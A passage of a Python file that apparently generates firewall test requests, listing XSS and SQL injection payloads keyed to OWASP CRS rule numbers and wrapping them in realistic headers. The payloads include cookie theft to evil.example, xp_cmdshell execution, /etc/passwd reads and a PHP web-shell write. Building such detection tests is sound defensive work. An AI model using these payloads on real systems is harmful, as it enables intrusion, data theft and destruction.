        "%22%3Blocation%3D%27%2F%2Fevil.example%27%2F%2F",
        "' in location='//evil.example'",
    ]),
    # 941340 IE XSS Filters: quote break then member assignment
    ("ie-quote-break-member", [
        "\";document.location='//evil.example';//",
        "';window.location.href='https://evil.example';//",
        "\"+document.body.innerHTML='x'+\"",
        "'|| (document.cookie='admin=1');//",
        "\";top.location.hash='x';//",
        "'; a.b=c; //",
        "\"%2Bdocument.title%3D1%2B\"",
        "\\\"; self.location = 'http://evil.example/'; //",
    ]),
    # 941380 AngularJS client side template injection (also the 4.x title of the same name)
    ("angularjs-csti", [
        "{{constructor.constructor('alert(1)')()}}",
        "{{$on.constructor('alert(1)')()}}",
        "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
        "{{[].pop.constructor('alert(1)')()}}",
        "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
        "[\"a\",\"alert(1)\"].sort(toString.constructor);}}",
        "{{7*7}}",
        "%7B%7Bconstructor.constructor(%27alert(1)%27)()%7D%7D",
        "<div ng-app>{{$eval.constructor('alert(1)')()}}</div>",
        "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
        "{{ $on . constructor ( 'alert(1)' ) ( ) }}",
        ("json", "{{constructor.constructor('alert(1)')()}}", "u"),
    ]),
    # 4.x Javascript method detected
    ("js-method", [
        "eval('alert(1)')",
        "setTimeout('alert(1)',0)",
        "setInterval(\"fetch('//evil.example/'+document.cookie)\",1000)",
        "new Function('alert(1)')()",
        "atob('YWxlcnQoMSk=')",
        "alert(document.domain)",
        "confirm (1)",
        "prompt\t(1)",
        "btoa(document.cookie)",
        "String.fromCharCode(97,108,101,114,116,40,49,41)",
        "eval%28name%29",
        "importScripts('//evil.example/x.js')",
    ]),
    # 4.x XSS JavaScript function without parentheses
    ("js-no-parens", [
        "alert`1`",
        "onerror=alert;throw 1",
        "[1].find(alert)",
        "setTimeout`alert\\x281\\x29`",
        "{onerror=eval}throw'=alert\\x281\\x29'",
        "[].sort.call`${alert}1`",
        "throw onerror=alert,1",
        "window.onerror=alert;throw document.domain",
        "'\"><img src=x onerror=alert`1`>",
        "x=alert,x`1`",
        "alert%601%60",
    ]),
]

# ---------------------------------------------------------------------------------------------------------------
# SQL injection (942xxx and the 4.x SQLi titles)
# ---------------------------------------------------------------------------------------------------------------
SQLI: list[tuple[str, list[Entry]]] = [
    # 942100 SQL Injection Attack Detected via libinjection
    ("libinjection-sqli", [
        "' OR '1'='1",
        "1' UNION SELECT username, password FROM users--",
        "1 AND 1=1",
        "admin'--",
        "1; DROP TABLE users--",
        "' OR 1=1 LIMIT 1 -- -",
        "-1 UNION ALL SELECT NULL,NULL,@@version#",
        "1%27%20OR%20%271%27%3D%271",
        "1'/**/oR/**/'a'='a",
        "') OR ('x'='x",
        "1\" AND \"1\"=\"1",
        ("json", "' OR 1=1--", "u"),
    ]),
    # 942140 Common DB Names Detected
    ("common-db-names", [
        "1 UNION SELECT table_name FROM information_schema.tables",
        "' UNION SELECT name FROM sysobjects WHERE xtype='U'--",
        "1 AND (SELECT COUNT(*) FROM mysql.user)>0",
        "' UNION SELECT usename FROM pg_catalog.pg_user--",
        "1 UNION SELECT sql FROM sqlite_master--",
        "'; SELECT * FROM msdb..backupset--",
        "x' AND 1=(SELECT 1 FROM pg_shadow LIMIT 1)--",
        "1 UNION SELECT name FROM master..sysdatabases",
        "INFORMATION_SCHEMA.COLUMNS",
        "1%20union%20select%20table_name%20from%20information_schema.tables",
        "' UNION SELECT username FROM dba_users--",
        "1/**/union/**/select/**/schema_name/**/from/**/information_schema.schemata",
    ]),
    # 942160 blind sqli tests using sleep() or benchmark()
    ("blind-sleep-benchmark", [
        "1 AND SLEEP(5)",
        "' OR SLEEP(10)#",
        "1 AND BENCHMARK(5000000,MD5(1))",
        "1' AND (SELECT * FROM (SELECT(SLEEP(5)))a)--",
        "sleep(5)#",
        "1)/**/AND/**/sleep(3)/**/--",
        "1 or sleep (5)",
        "BeNcHmArK(1000000,SHA1(1))",
        "1%20AND%20SLEEP(5)",
        "\"XOR(if(now()=sysdate(),sleep(5),0))XOR\"",
        "0'XOR(sleep(7))XOR'Z",
    ]),
    # 942170 benchmark and sleep injection including conditional queries
    ("conditional-sleep-benchmark", [
        "1; SELECT SLEEP(5)--",
        "1 AND IF(1=1,SLEEP(5),0)",
        "' AND (SELECT IF(SUBSTRING(version(),1,1)='8',SLEEP(5),0))--",
        "1 UNION SELECT IF(1,BENCHMARK(3000000,MD5('x')),0)",
        "1 AND (SELECT 1 FROM (SELECT SLEEP(3))x)",
        "SELECT BENCHMARK(1000000,ENCODE('a','b'))",
        "1 OR IF(ASCII(SUBSTR(USER(),1,1))>64,SLEEP(2),1)",
        "1;select/**/sleep(5)",
        "'+(select*from(select(sleep(5)))a)+'",
        ("json", "1 AND IF(1,SLEEP(5),0)", "u"),
        "1%3B%20SELECT%20SLEEP(5)",
        "1 and if(length(database())=6,sleep(5),1)",
    ]),
    # 942190 MSSQL code execution and information gathering
    ("mssql-exec-info", [
        "'; EXEC master..xp_cmdshell 'whoami'--",
        "1; EXEC xp_cmdshell('dir c:\\')",
        "'; EXEC master.dbo.xp_dirtree '\\\\203.0.113.9\\share'--",
        "1 UNION SELECT @@version--",
        "' UNION ALL SELECT NULL, @@servername--",
        "';exec('sel'+'ect 1')--",
        "1; EXECUTE sp_configure 'show advanced options',1; RECONFIGURE--",
        "1 UNION SELECT db_name()",
        "'%3B%20exec%20xp_cmdshell%20%27dir%27--",
        "1;ExEc/**/xp_cmdshell/**/'ping 203.0.113.9'",
        "'; DECLARE @q VARCHAR(99);SET @q='\\\\evil.example\\x'; EXEC master.dbo.xp_fileexist @q--",
    ]),
    # 942220 integer overflow attacks (skipfish) and the "magic number" crash
    ("integer-overflow-magic", [
        "2147483648",
        ("json", "4294967296", "num"),
        "-2147483649",
        "2.2250738585072007e-308",
        "1e309",
        ("path", "4294967295"),
        "-0000023456",
        ("header:X-Api-Version", "2147483647"),
        "0000012345",
        "3.0.00738585072007e-308",
        ("json", "2.2250738585072011e-308", "num"),
        "-2147483648",
    ]),
    # 942230 conditional SQL injection attempts
    ("conditional-injection", [
        "1 AND (CASE WHEN (1=1) THEN 1 ELSE 0 END)=1",
        "x') like ('a",
        "1 HAVING 1=1--",
        "' GROUP BY id HAVING 1=1--",
        "1 AND IF(1=1,1,0)",
        "1+(case (1) when 1 then 1 end)",
        "if(1=1,'a','b')",
        "1 OR CASE(1) WHEN 1 THEN 1 END",
        "x')%20LIKE%20('x",
        "1 having count(*) > 0",
        "' and if(ascii(substr(database(),1,1))=100,1,0)-- -",
    ]),
    # 942240 MySQL charset switch and MSSQL DoS attempts
    ("charset-switch-mssql-dos", [
        "'; WAITFOR TIME '23:59:59'--",
        "\";waitfor delay '0:0:5'--",
        "1 ALTER TABLE users CHARACTER SET utf8",
        "'; ALTER DATABASE app CHAR SET gbk--",
        "';a:goto a--",
        "'waitfor time '00:00:10'",
        "1'; WaItFoR DeLaY '00:00:07'--",
        "%27%3Bwaitfor%20delay%20%270%3A0%3A5%27--",
        "1; alter table accounts convert to character set latin1",
        "'; l:goto l;--",
    ]),
    # 942250 MATCH AGAINST, MERGE and EXECUTE IMMEDIATE injections
    ("match-merge-execute-immediate", [
        "1 AND MATCH(title) AGAINST('+admin' IN BOOLEAN MODE)",
        "' UNION SELECT 1 FROM users WHERE MATCH (name) AGAINST ('x')--",
        "'; MERGE INTO users u USING (SELECT 1 FROM dual) s ON (1=1) WHEN MATCHED THEN UPDATE SET role='admin'--",
        "BEGIN EXECUTE IMMEDIATE 'DROP TABLE users'; END;",
        "'||(EXECUTE IMMEDIATE 'GRANT DBA TO scott')||'",
        "match(x)against('y')",
        "'; merge into t using (select 1 from dual) x on (1=1) when not matched then insert values(1)--",
        "execute%20immediate%20'select%201'",
        "1 or match (bio) against ('*' in boolean mode)",
        "EXECUTE   IMMEDIATE 'ALTER USER sys IDENTIFIED BY x'",
    ]),
    # 942270 basic sql injection: union select from
    ("union-select-from", [
        "1 UNION SELECT * FROM users",
        "' UNION SELECT username, email FROM accounts--",
        "-1 union select 1,2,3 from dual",
        "1 UNION ALL SELECT card_number FROM payments",
        "1/**/UNION/**/SELECT/**/name/**/FROM/**/users",
        "1 UnIoN sElEcT token FrOm sessions",
        "1 union(select(name)from(users))",
        "1%20union%20select%20pass%20from%20users",
        "0 union distinct select login from admins",
        "1 union\nselect id\nfrom users",
    ]),
    # 942280 Postgres pg_sleep, waitfor delay and database shutdown
    ("pg-sleep-waitfor-shutdown", [
        "1; SELECT pg_sleep(10)--",
        "' || pg_sleep(5)--",
        "1'; WAITFOR DELAY '0:0:10'--",
        "'; SHUTDOWN WITH NOWAIT--",
        "1;shutdown--",
        "1 AND 1=(SELECT 1 FROM pg_sleep(5))",
        "'; waitfor delay '00:00:05';--",
        "1%3BSELECT%20PG_SLEEP(5)",
        "'); SELECT pg_sleep (7);--",
        "1 OR pg_sleep(3) IS NULL",
    ]),
    # 942290 basic MongoDB SQL injection
    ("mongodb-operators", [
        ("query-name", "username[$ne]"),
        ("query-name", "pin[$gt]"),
        ("json-key", "$ne"),
        ("json-key", "$regex"),
        ("json-key", "$where"),
        ("form-name", "user[$in][]"),
        ("cookie-name", "filter[$exists]"),
        ("query-name", "login[$regex]"),
        ("query-name", "age[%24gt]"),
        ("form-name", "role[$nin][]"),
        ("query", "{\"$gt\":\"\"}"),
        ("multipart-name", "email[$ne]"),
    ]),
    # 942320 MySQL and PostgreSQL stored procedure/function injections
    ("stored-procedure-function", [
        "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)",
        "'; DECLARE @cmd VARCHAR(100); SET @cmd='dir'--",
        "1;declare c cursor for select 1",
        "'; CREATE PROCEDURE x() --",
        "1; EXEC(@q)--",
        "'; open c1;--",
        "declare @s nvarchar(4000)",
        "CREATE OR REPLACE FUNCTION sys_eval(text) RETURNS text AS '/tmp/lib.so','sys_eval' LANGUAGE C STRICT;",
        "1 procedure analyse ( )",
        "%3BDECLARE%20%40x%20INT",
        "1;DeClArE/**/@t/**/TABLE(x INT)",
    ]),
    # 942350 MySQL UDF injection and other data/structure manipulation
    ("udf-data-manipulation", [
        "'; CREATE FUNCTION sys_exec RETURNS int SONAME 'lib_mysqludf_sys.so';--",
        "1; DROP TABLE users--",
        "'; INSERT INTO users (email, role) VALUES ('x@evil.example','admin');--",
        "1; UPDATE users SET role='admin' WHERE id=1",
        "'; DELETE FROM audit_log;--",
        "1;ALTER TABLE users ADD backdoor INT",
        "'; TRUNCATE TABLE sessions--",
        "1;create table x(y text)",
        "1%3B%20DROP%20TABLE%20users",
        "';/**/DrOp/**/TaBlE/**/orders;--",
        "1; SELECT sys_exec('id')",
    ]),
    # 942360 concatenated basic SQL injection and SQLLFI
    ("concatenated-sqllfi", [
        "1 UNION SELECT LOAD_FILE('/etc/passwd')",
        "' UNION SELECT 1 INTO OUTFILE '/var/www/html/s.php'--",
        "1) UNION ALL SELECT 1,2,3",
        "' union distinct select 1",
        "select load_file('/etc/hosts')",
        "1 AND (load_file(0x2f6574632f706173737764))",
        "' regexp '^a",
        "-1 ALTER USER root IDENTIFIED BY 'x'",
        "'; select group_concat(table_name) from information_schema.tables",
        "1' UNION SELECT '<?php system($_GET[c]); ?>' INTO DUMPFILE '/var/www/html/x.php'--",
        "%27%20union%20all%20select%201",
        "1/**/union/**/all/**/select/**/2",
    ]),
    # 942500 MySQL in-line comment detected
    ("mysql-inline-comment", [
        "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
        "/*!SELECT*/ 1",
        "' /*!OR*/ 1=1--",
        "1/*!12345UnIoN*//*!12345sElEcT*/1",
        "1 /*!and*/ 1=1",
        "/*! sleep(5)*/",
        "1%2F%2A%21union%2A%2F select 1",
        "x'/*!00000AND*/'1'='1",
        "/*!32302 1/0, */ 1",
        "admin'/*!*/--",
    ]),
    # 942110 Common Injection Testing Detected
    ("injection-testing-quotes", [
        "'",
        "1'",
        "\"",
        "';",
        "admin'",
        "`",
        "%27",
        "test\"",
        ("path", "42'"),
        "'''",
        ";--",
        "  '",
    ]),
    # 942120 SQL Operator Detected
    ("sql-operator", [
        "1 RLIKE '^a'",
        "name SOUNDS LIKE 'admin'",
        "1 XOR 1",
        "x' NOT REGEXP '^b",
        "1 IS NULL",
        "1' LIKE BINARY 'A%",
        "id NOT LIKE '%'",
        "1 or not 0",
        "'a' REGEXP '^[a-d]'",
        "1%20rlike%20%271%27",
        "email NOTNULL",
    ]),
    # 942130 SQL Tautology Detected
    ("sql-tautology", [
        "1 OR 1=1",
        "' OR 'a'='a",
        "x' OR 'x' LIKE 'x",
        "1 OR 2>1",
        "1 AND 3!=4",
        "') OR ('b'='b",
        "1 or true=true",
        "1 OR 1 RLIKE 1",
        "1%20OR%201%3D1",
        "admin' or 'z'<>'y",
        "1/**/oR/**/7=7",
    ]),
    # 942150 SQL Injection Attack (SQL function names)
    ("sql-function-names", [
        "1 AND ASCII(SUBSTRING(user(),1,1))>64",
        "CONCAT(0x3a,version())",
        "' AND length(database())>3--",
        "1 UNION SELECT group_concat(email) FROM users",
        "CHAR(97,100,109,105,110)",
        "1 AND ORD(MID(current_user(),1,1))=114",
        "extractvalue(1,concat(0x7e,(select user())))",
        "updatexml(1,concat(0x7e,version()),1)",
        "hex(load_file('/etc/passwd'))",
        "concat%28user%28%29%29",
        "1 and COALESCE(NULL,user())",
        "SuBsTr(@@version,1,1)",
    ]),
    # 942180 basic SQL authentication bypass attempts 1/3
    ("auth-bypass-1", [
        "admin' or 1=1--",
        "' OR '1",
        "x' and 1#",
        "\\x27 or 1=1",
        "a'",
        "1' || 'a'='a",
        "@a or 1=1",
        "' div 1 #",
        "\"xor\"1",
        "x' between 1 and 2--",
        "%27%20or%201%3D1",
        "'/**/or/**/1#",
    ]),
    # 942200 MySQL comment-/space-obfuscated injections and backtick termination
    ("comment-space-obfuscation-backtick", [
        "1'/**/union/**/select/**/1,2--",
        "admin`#",
        "1,(select`user`from`mysql`.`user`)",
        "'or(1)=(1)#",
        "1\nunion\nselect\n1",
        "x'/*!*/or/*!*/'1",
        "1;SeLeCt`pass`fRoM`users`",
        "' union(select(1),(2))#",
        "1'%23%0Aunion%23%0Aselect%201",
        "a','b'),(select 1),'",
        "1'\tunion\tselect\t1",
    ]),
    # 942210 chained SQL injection attempts 1/2
    ("chained-injection-1", [
        "1 && sleep(5)",
        "1 || ascii(1)",
        "' or length(user())>1--",
        "1 xor md5(1)",
        "1'; select 1--",
        "1);waitfor delay '0:0:3'--",
        "1 and char(49)=1",
        "1%26%26sleep(3)",
        "' OR/**/ord(1)--",
        "1 AND extractvalue(1,0x7e)",
    ]),
    # 942260 basic SQL authentication bypass attempts 2/3
    ("auth-bypass-2", [
        "' or 1=1 having 1=1--",
        "admin' like '%",
        "' || 1=1 having 1--",
        "\" like \"1",
        "'*1 or '1",
        "' and x=x having 1#",
        "'%20like%20'%25",
        "' LIKE 0x61646d696e#",
        "'=''or'",
        "\" or id=1 having 1=1--",
    ]),
    # 942300 MySQL comments, conditions and ch(a)r injections
    ("comments-conditions-char", [
        "admin'#",
        "x\"--",
        "'{",
        "CHAR(65)",
        "chr(0x41)",
        "1) when 1 then 1",
        "/*!50000",
        "1 and sleep(1)",
        "' -- -",
        "%27%23",
        "' or ascii(1)",
    ]),
    # 942310 chained SQL injection attempts 2/2
    ("chained-injection-2", [
        "1 AND (SELECT password FROM users LIMIT 1)='a'",
        "';begin declare @x int;end--",
        "1;commit;--",
        "' ORDER BY 10--",
        "1 UNION SELECT 1 WHERE 1=(select 1)",
        "(select(1)from(dual))",
        "1; rollback--",
        "%28select%20user%29",
        "1 order by 1 desc, 2--",
        "(SELECT user)",
    ]),
    # 942330 classic SQL injection probings 1/3
    ("classic-probing-1", [
        "' or '",
        "\"or\"",
        "1' and '1",
        "' like '",
        "\\x27 OR 1",
        "'xor'",
        "'between'",
        "' div '",
        "%27or%271",
        "a' Or '1",
    ]),
    # 942340 basic SQL authentication bypass attempts 3/3
    ("auth-bypass-3", [
        "1 IN (SELECT id FROM admins)",
        "'1--",
        "'=0 or '1",
        "' is 1 and 'a",
        "'||x=1||'",
        "1 and 1 sounds like 'a'",
        "' or 1 regexp('a')",
        "'1#",
        "1 in%28select 1%29",
        "x' in ((select 'x'))--",
    ]),
    # 942361 basic SQL injection based on keyword alter or union
    ("alter-union-keyword", [
        "1 UNION SELECT 1",
        "') union all select null--",
        "-1 alter table x",
        "1'union select 2",
        "%27%20union%20select%201",
        "\") UNION (SELECT 1)",
        "0/**/union/**/select/**/1",
        "1 alter user root",
        "'  UnIoN ALL SELECT 9",
        "9\tunion\tselect\t1",
    ]),
    # 942370 classic SQL injection probings 2/3
    ("classic-probing-2", [
        "'*'like'*",
        "' or x = 1--",
        "'<>'",
        "')) --",
        "1*1'",
        "'^'",
        "\" ;--",
        "'&1=1#",
        "%27%29%29%20--",
        "' between a and b1",
    ]),
    # 942380 SQL Injection Attack (exists / having / select ... from ... where / sp_ procedures)
    ("keyword-clauses", [
        "1 AND EXISTS(SELECT * FROM users)",
        "' having 1=1--",
        "1; EXEC sp_executesql N'SELECT 1'",
        "SELECT COUNT(*) FROM users WHERE 1",
        "1 AND (SELECT TOP 1 name FROM sysobjects)='x'",
        "' ORDER BY 3--",
        "1 group by 1 having 1=1",
        "select length(pass) from users",
        "1;exec sp_makewebtask '\\\\evil\\x.html','select 1'",
        "%27%20having%201%3D1",
    ]),
    # 942390 SQL Injection Attack (or comparisons)
    ("or-comparison", [
        "1 or 1=1",
        "' or 'x'='x",
        "1 or 5>2",
        "x' or 2<3--",
        "\" or \"a\"=\"a",
        "1 xor 1=1",
        "or 'abc'<'b'",
        "1 or 100=100",
        "1%20or%201%3D1",
        "') or ('1'='1",
    ]),
    # 942400 SQL Injection Attack (and comparisons)
    ("and-comparison", [
        "1 and 1=1",
        "' and 'a'='a",
        "1 and 2>1",
        "x\" and \"b\"=\"b",
        "1 AND 7<8",
        "' and 'abc'='abc'--",
        "1%20and%201%3D1",
        "1 and 99=99",
        "1) and 1=(1",
        "1 AND \"x\"<\"y\"",
    ]),
    # 942410 SQL Injection Attack (wide SQL function list)
    ("sql-function-calls-wide", [
        "aes_decrypt(x,'k')",
        "1 and abs(1)=1",
        "bin(7)",
        "1 or cos(0)=1",
        "DATE_ADD(now(),INTERVAL 1 DAY)",
        "unhex('61646d696e')",
        "uuid()",
        "1 or floor(rand(0)*2)",
        "export_set(5,'Y','N')",
        "soundex%28user%28%29%29",
        "1 AND NULLIF(1,2)",
    ]),
    # 942470 SQL Injection Attack (MSSQL / Oracle procedures and packages)
    ("mssql-oracle-procedures", [
        "xp_regread",
        "'; EXEC xp_servicecontrol 'start','schedule'--",
        "sp_oacreate 'wscript.shell'",
        "OPENROWSET('SQLOLEDB','x';'sa';'','select 1')",
        "utl_http.request('http://evil.example/')",
        "dbms_java.runjava('x')",
        "'; exec sp_password--",
        "cast(0x41 as nvarchar)",
        "openquery(linked,'select 1')",
        "xp%5Fcmdshell 'dir'",
        "UTL_FILE.FOPEN('/tmp','x','w')",
        "autonomous_transaction",
    ]),
    # 942480 SQL Injection Attack (statement keywords)
    ("statement-keywords", [
        "dbms_pipe.receive_message('a',10)",
        "1; DELETE FROM users",
        "INSERT INTO admins VALUES ('x')",
        "1 GROUP BY 1 HAVING 1=1",
        "UPDATE users SET role='admin'",
        "'; select * from users where 1--",
        "dbms_lock.sleep(5)",
        "1 union all select 1",
        "insert%20into%20logs values(1)",
        "DeLeTe/**/FrOm/**/orders",
    ]),
    # 942430 Restricted SQL Character Anomaly Detection (args): # of special characters exceeded (12)
    ("special-char-anomaly", [
        "'))));--;;;;;;;;",
        "!!!!!!!!@@@@@@@@####",
        "1'\"`;--/*!*/#%00(())",
        "((((((((((((1))))))))))))",
        "'||'||'||'||'||'||'",
        "~~~~~~~~~~~~~~~",
        "\"'`;-- /**/ ()[]{}<>|\\",
        "1',(select(1)),'2',(select(2)),'",
        "%27%22%3B%29%28--%23%2F%2A%27%22%3B%29",
        "@@@@@@@@@@@@@@",
    ]),
    # 942440 SQL Comment Sequence Detected
    ("comment-sequence", [
        "admin'--",
        "1/*comment*/",
        "x';--",
        "1 -- ",
        "1#x ",
        "foo*/",
        "1--x-",
        "1%2F%2Aabc%2A%2F",
        "'/*",
        "1 -- -",
    ]),
    # 942450 SQL Hex Encoding Identified
    ("hex-encoding", [
        "0x61646d696e",
        "1 UNION SELECT 0x3c3f70687020706870696e666f28293b203f3e",
        "WHERE name=0x726f6f74",
        "0X2F6574632F706173737764",
        "SELECT CHAR(0x41414141)",
        "x' or name=0x61646d696e--",
        "0x272F2A",
        "%30x414243",
        "unhex(0x616263)",
        "1=0xDEADBEEF",
    ]),
    # 942510 SQLi bypass attempt by ticks or backticks
    ("ticks-backticks", [
        "select`user`from`users`",
        "`id`=1",
        "1 union select `password` from `users`",
        "admin` or `1`=`1",
        "\u00b4or 1=1\u00b4",
        "`sleep(5)`",
        "%60id%60=1",
        "`x`--",
        "ORDER BY `email`",
        "(`a`)",
    ]),
    # 4.x JSON-Based SQL Injection
    ("json-sqli", [
        "' OR '{\"b\":2}'::jsonb <@ '{\"a\":1, \"b\":2}'::jsonb--",
        "1 AND JSON_EXTRACT('{\"a\":1}','$.a')=1",
        "' OR json_extract('{\"x\":1}','$.x') = 1--",
        "1 OR '{\"a\":1}'->>'a'='1'",
        "' or JSON_DEPTH('{}') != 2#",
        "1 AND '[1,2]'::jsonb ? 1",
        "x' OR JSON_CONTAINS('{\"a\":1}','1','$.a')-- -",
        "1 AND json_type('{}')='OBJECT'",
        "1 OR JSON_KEYS('{\"admin\":1}') LIKE '%admin%'",
        "' or '{\"a\":1}'::json->>'a'='1",
        "1%20OR%20JSON_EXTRACT(%27%7B%7D%27%2C%27%24%27)",
    ]),
    # 4.x MySQL Scientific Notation payload detected
    ("scientific-notation", [
        "1.e(ascii 1.e(substring(1.e(select password from users limit 1 1.e,1 1.e) 1.e,1 1.e) 1.e)) = 70 or'1'='2",
        "1 union select 1.e(version())",
        "' or 1.e(1) = 1.e(1)#",
        "1e0union select 1",
        "0.e1union select user()",
        "1.e(user())",
        "-1.0e1union/**/select 1",
        "1.e(ascii 1.e(substring(1.e(select user()) 1.e,1,1))) > 64",
        "1.e%28select 1%29",
        "2.E(1)OR 1=1",
    ]),
    # 4.x SQL Authentication bypass (split query)
    ("auth-bypass-split-query", [
        "admin'/*",
        "*/ OR 1=1 --",
        "'/*",
        "admin' ;/*",
        "\"/*",
        "*/='' OR ''=''/*",
        "x'/**/",
        "admin%27%2F%2A",
        "admin'  /*",
        "*/ union select 1 --",
    ]),
    # 4.x Detects basic SQL authentication bypass attempts 4/4
    ("auth-bypass-4", [
        "'or''='",
        "\" or \"\"=\"",
        "admin' OR 'x'='x'#",
        "' or true--",
        "'||1#",
        "'=' 'or'",
        "') or true--",
        "admin') or ('1'='1'--",
        "%27or%27%27%3D%27",
        "' oR 1-- -",
    ]),
]

# Where a family's payloads go: first the variables nearly every rule of the family reads, then (rotating per
# title) the rarer ones.
CORE = {
    "sqli": ["query", "json", "form", "cookie", "xml"],
    "xss": ["query", "json", "form", "cookie", "header:User-Agent", "header:Referer", "xml"],
    "php": ["query", "json", "form", "cookie", "xml"],
}
EXTRA = {
    "sqli": ["query-name", "json-key", "multipart-field", "cookie-name", "xml-attr", "form-name", "path",
             "header:User-Agent", "header:Referer", "header:X-Forwarded-For", "multipart-name", "raw-body",
             "multipart-filename", "multipart-file"],
    "xss": ["query-name", "json-key", "multipart-field", "xml-attr", "path", "cookie-name", "form-name",
            "multipart-filename", "multipart-file", "raw-body", "header:X-Custom", "multipart-name"],
    "php": ["multipart-file", "path", "query-name", "json-key", "multipart-field", "header:User-Agent",
            "cookie-name", "xml-attr", "raw-body", "multipart-filename", "header:X-Api-Version", "form-name",
            "header:Referer"],
}
FAMILIES = [("php", PHP), ("xss", XSS), ("sqli", SQLI)]

# ---------------------------------------------------------------------------------------------------------------
# Request building: a browser's or a client's ordinary headers around the one variable that carries the value
# ---------------------------------------------------------------------------------------------------------------
BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36 Edg/126.0.0.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Mobile/15E148 Safari/604.1",
]
CLIENT_UAS = ["python-requests/2.32.3", "okhttp/4.12.0", "axios/1.7.2", "Go-http-client/2.0",
              "PostmanRuntime/7.39.0"]
LANGS = ["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "en-GB,en;q=0.9", "fr-FR,fr;q=0.9,en-US;q=0.7"]
PAGES = ["admin/users", "dashboard", "me/settings", "admin/users/search?q=smith", "users/42", "reports/q2"]
HTML_ACCEPT = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
QUERY_PARAMS = ["q", "search", "name", "sort", "filter", "email", "department", "callback", "redirect", "next",
                "ref", "id", "page_url", "title"]
JSON_FIELDS = ["name", "email", "bio", "title", "department", "website", "notes", "location", "nickname"]
FORM_ROUTES = ["search", "settings", "search", "oauth", "settings"]
COOKIE_NAMES = ["prefs", "last_search", "theme", "tz", "cart", "recent", "lang", "ref"]
XML_FIELDS = ["name", "bio", "title", "department", "comment", "website"]
XML_ATTRS = ["lang", "role", "title", "ref", "note", "href"]
SLACK_LEADS = ["lookup user ", "ticket title: ", "hey bot, ", "search ", "please add this to the notes: "]
PATH_SAFE = "!$&'()*+,;=:@"


def token(n: int, salt: str = "session", size: int = 24) -> str:
    """A deterministic random-looking token: a hash of the record number."""
    return b64url(hashlib.blake2b(f"{NAME}:{salt}:{n}".encode(), digest_size=size).digest())


def hexs(n: int, salt: str, size: int = 32) -> str:
    return hashlib.blake2b(f"{NAME}:{salt}:{n}".encode(), digest_size=size).hexdigest()


def cookie_enc(value: str, enc: str | None = None, name: bool = False) -> str:
    """A cookie value (or name) as a client sends it: the characters a cookie cannot carry percent-encoded."""
    unsafe = ";, \"\\%" + ("=" if name else "")
    out = []
    for ch in value:
        if ch in unsafe or ord(ch) < 0x20 or ord(ch) > 0x7e:
            out.append(urllib.parse.quote(ch, safe="", encoding="latin-1" if enc == "latin1" else "utf-8"))
        else:
            out.append(ch)
    return "".join(out)


def url_enc(value: str, enc: str | None = None, safe: str = "", plus: bool = False) -> str:
    encoding = "latin-1" if enc == "latin1" else "utf-8"
    if plus:
        return urllib.parse.quote_plus(value, safe=safe, encoding=encoding)
    return urllib.parse.quote(value, safe=safe, encoding=encoding)


def part_name(value: str) -> str:
    """A multipart name or filename as a browser writes it (quote and line breaks percent-encoded)."""
    return value.replace("\"", "%22").replace("\r", "%0D").replace("\n", "%0A")


def browser(n: int, *, accept: str = HTML_ACCEPT, mode: str = "navigate", cookie: str = "") -> dict[str, str]:
    h = {"User-Agent": BROWSER_UAS[n % len(BROWSER_UAS)], "Accept": accept,
         "Accept-Language": LANGS[n % len(LANGS)], "Accept-Encoding": "gzip, deflate, br, zstd",
         "Referer": f"https://app.example.com/{PAGES[n % len(PAGES)]}",
         "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": mode,
         "Sec-Fetch-Dest": "document" if mode == "navigate" else "empty",
         "Cookie": f"session={token(n)}; cookieconsent_status=dismiss" + (f"; {cookie}" if cookie else "")}
    if mode != "navigate":
        h["Origin"] = "https://app.example.com"
    return h


def api_client(n: int) -> dict[str, str]:
    """A JSON API call: from the web app (fetch) or from a client library."""
    if n % 3 == 0:
        return {"User-Agent": CLIENT_UAS[n % len(CLIENT_UAS)], "Accept": "application/json",
                "Accept-Encoding": "gzip, deflate"}
    h = browser(n, accept="application/json, text/plain, */*", mode="cors")
    h["X-Requested-With"] = "XMLHttpRequest"
    return h


def json_literal(value: str, enc: str | None) -> str:
    """The JSON text of a string value: plain, with \\u escapes (the delimiters and each word's first letter),
    or (enc "num") the value written as a bare number."""
    if enc == "num":
        return value
    if enc != "u":
        return json.dumps(value, ensure_ascii=False)
    out = []
    prev_alpha = False
    for ch in value:
        if (ch.isascii() and ch.isalnum() and (prev_alpha or not ch.isalpha())) or ch == " ":
            out.append(ch)
        else:
            out.append(f"\\u{ord(ch):04x}")
        prev_alpha = ch.isascii() and ch.isalpha()
    return "\"" + "".join(out) + "\""


SENTINEL = "__payload_goes_here__"


def json_body(doc: Any, value: str, enc: str | None, prefix: str = "") -> str:
    """doc (holding SENTINEL where the value goes) as JSON, the value written by json_literal after prefix."""
    body = json.dumps(doc, ensure_ascii=False)
    literal = json_literal(value, enc)
    if prefix:
        literal = json.dumps(prefix, ensure_ascii=False)[:-1] + literal[1:] if enc != "num" else literal
    return body.replace(json.dumps(SENTINEL), literal, 1)


def get_req(uri: str, headers: dict[str, str]) -> dict[str, Any]:
    return {"method": "GET", "uri": uri, "body": "", "headers": headers}


def query_req(n: int, value: str, enc: str | None) -> dict[str, Any]:
    param = QUERY_PARAMS[n % len(QUERY_PARAMS)]
